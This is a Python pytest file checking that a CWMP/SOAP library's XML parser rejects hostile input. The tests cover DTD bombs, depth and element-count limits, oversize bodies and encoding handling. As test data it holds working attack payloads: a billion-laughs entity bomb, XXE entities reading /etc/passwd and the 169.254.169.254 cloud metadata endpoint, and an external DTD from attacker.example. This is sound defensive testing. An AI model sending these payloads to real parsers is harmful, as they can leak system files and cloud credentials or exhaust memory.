"""Hostile XML: DTD bombs, external entities, depth and element-count bombs, oversize bodies.

Timing is not asserted (unit tests must not depend on machine speed). Instead each test shows
that the rejection happens before the document is parsed: the payloads are also malformed
further down, so a parser that got that far would report a syntax error instead.
"""

from __future__ import annotations

import pytest
from lxml import etree

from cwmp import UnsafeXml, parse_envelope
from cwmp.xmlsafe import (
    DEFAULT_LIMITS,
    XmlForbidden,
    XmlLimitExceeded,
    XmlLimits,
    XmlRejected,
    XmlSyntaxError,
    _parser,
    charset_from_content_type,
    parse_xml,
)

TRAILING_GARBAGE = b"<unclosed"  # makes the document malformed after the part under test

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&lol9;</soap:Body></soap:Envelope>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&xxe;</soap:Body></soap:Envelope>"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&xxe;</soap:Body></soap:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE e SYSTEM "http://attacker.example/evil.dtd">
<e/>"""

PARAMETER_ENTITIES = b"""<!DOCTYPE e [
 <!ENTITY % a "<!ENTITY b 'x'>">
 %a;
]><e>&b;</e>"""


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, EXTERNAL_DTD, PARAMETER_ENTITIES],
    ids=["billion-laughs", "xxe-file", "xxe-http", "external-dtd", "parameter-entities"],
)
def test_dtds_are_rejected_before_parsing(payload: bytes) -> None:
    with pytest.raises(XmlForbidden) as info:
        parse_xml(payload + TRAILING_GARBAGE)
    message = str(info.value)
    assert "lol" not in message and "root:" not in message and "meta-data" not in message
    with pytest.raises(UnsafeXml):
        parse_envelope(payload)


@pytest.mark.parametrize(
    "prolog",
    [
        b"<!doctype e>",  # not a valid DOCTYPE spelling, refused all the same
        b"<?xml version='1.0'?><!-- a comment --><?pi data?>\n<!DOCTYPE e>",
        b"\xef\xbb\xbf<!DOCTYPE e>",  # after a UTF-8 byte-order mark
        b"<!ENTITY x 'y'>",
    ],
)
def test_any_markup_declaration_in_the_prolog_is_refused(prolog: bytes) -> None:
    with pytest.raises(XmlForbidden):
        parse_xml(prolog + b"<e/>")


def test_utf16_doctype_is_refused_too() -> None:
    with pytest.raises(XmlForbidden):
        parse_xml(XXE_FILE.decode().encode("utf-16"))


def test_declaration_lookalikes_in_comments_and_content_are_fine() -> None:
    root = parse_xml(b"<!-- <!DOCTYPE not really --><e><![CDATA[<!DOCTYPE x>]]>&lt;!DOCTYPE y&gt;</e>")
    assert root.text == "<!DOCTYPE x><!DOCTYPE y>"


def test_entities_are_not_resolved_even_past_the_prolog_check() -> None:
    """Defence in depth: the parser itself neither loads the file nor expands entities."""
    root = etree.fromstring(XXE_FILE, _parser(None))
    text = etree.tostring(root)
    assert b"root:" not in text
    # libxml2 (without huge_tree) also refuses to amplify entities, expanded or not.
    with pytest.raises(etree.XMLSyntaxError, match="amplification"):
        etree.fromstring(BILLION_LAUGHS, _parser(None))


def test_undefined_entity_is_a_syntax_error() -> None:
    with pytest.raises(XmlSyntaxError, match="nope"):
        parse_xml(b"<e>&nope;</e>")


def test_depth_limit() -> None:
    limits = XmlLimits(max_depth=64)
    assert parse_xml(b"<a>" * 64 + b"</a>" * 64, limits=limits).tag == "a"
    with pytest.raises(XmlLimitExceeded) as info:
        parse_xml(b"<a>" * 65 + b"</a>" * 65, limits=limits)
    assert info.value.limit == "max_depth"


def test_depth_bomb_is_stopped_by_the_parser_itself() -> None:
    """libxml2 (no huge_tree) gives up at depth 256 while parsing: memory stays bounded."""
    bomb = b"<a>" * 100_000 + b"</a>" * 100_000
    with pytest.raises(XmlLimitExceeded) as info:
        parse_xml(bomb)
    assert info.value.limit == "max_depth"


def test_element_count_bomb_is_rejected_before_parsing() -> None:
    bomb = b"<r>" + b"<a/>" * (DEFAULT_LIMITS.max_elements + 1) + TRAILING_GARBAGE
    assert len(bomb) < DEFAULT_LIMITS.max_bytes
    with pytest.raises(XmlLimitExceeded) as info:
        parse_xml(bomb)
    assert info.value.limit == "max_elements"


def test_element_count_limit_is_exact_enough() -> None:
    limits = XmlLimits(max_elements=10)
    ten = b"<r>" + b"<a></a>" * 9 + b"</r>"  # 10 elements, 20 '<' characters
    assert len(parse_xml(ten, limits=limits)) == 9
    with pytest.raises(XmlLimitExceeded):
        parse_xml(b"<r>" + b"<a></a>" * 10 + b"</r>", limits=limits)


def test_oversize_body_is_rejected_before_parsing() -> None:
    limits = XmlLimits(max_bytes=1024)
    with pytest.raises(XmlLimitExceeded) as info:
        parse_xml(b"<" * 1025, limits=limits)
    assert info.value.limit == "max_bytes"
    assert parse_xml(b"<e>" + b"x" * 1017 + b"</e>", limits=limits).tag == "e"


def test_default_limits() -> None:
    assert (DEFAULT_LIMITS.max_bytes, DEFAULT_LIMITS.max_depth, DEFAULT_LIMITS.max_elements) == (4 << 20, 64, 200_000)


@pytest.mark.parametrize("bad", [b"", b"not xml", b"<a><b></a>", b"<a>\xff\xfe\xfd</b>"])
def test_garbage(bad: bytes) -> None:
    with pytest.raises(XmlRejected):
        parse_xml(bad)


def test_control_characters_raw_and_as_references_are_removed() -> None:
    root = parse_xml(b"<e a='x\x02y'>1\x002\x083\x0b4\x0c5\x1f6&#0;7&#x8;8&#11;9&#x1F;0\t\n</e>")
    assert root.text == "1234567890\t\n"
    assert root.get("a") == "xy"


def test_noncharacters_in_utf8_are_removed() -> None:
    assert parse_xml("<e>a\ufffeb\uffffc</e>".encode()).text == "abc"


def test_undeclared_prefixes_are_declared() -> None:
    root = parse_xml(b"<env:E xmlns:env='urn:e'><v xsi:type='xsd:int' custom:attr='1'>5</v></env:E>")
    value = root[0]
    assert value.get("{http://www.w3.org/2001/XMLSchema-instance}type") == "xsd:int"
    assert value.get("{urn:undeclared-prefix:custom}attr") == "1"


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (None, None),
        ("text/xml", None),
        ("text/xml; charset=utf-8", "utf-8"),
        ('text/xml; charset="UTF-8"', "utf-8"),
        ("text/xml;charset=ISO-8859-1", "iso-8859-1"),
        ("application/soap+xml; action=x; charset='iso-8859-1'", "iso-8859-1"),
    ],
)
def test_charset_from_content_type(header: str | None, expected: str | None) -> None:
    assert charset_from_content_type(header) == expected


def test_declared_latin1_and_undeclared_latin1() -> None:
    assert parse_xml(b"<?xml version='1.0' encoding='ISO-8859-1'?><e>\xe9</e>").text == "\u00e9"
    assert parse_xml(b"<e>\xe9</e>").text == "\u00e9"  # not UTF-8: read as ISO-8859-1
    assert parse_xml(b"<e>\xe9</e>", charset="windows-1252").text == "\u00e9"
    assert parse_xml("<e>\u00e9</e>".encode(), charset="utf-8").text == "\u00e9"


def test_wide_encodings() -> None:
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        assert parse_xml("<e>\u00e9\u2603</e>".encode(codec)).text == "\u00e9\u2603", codec
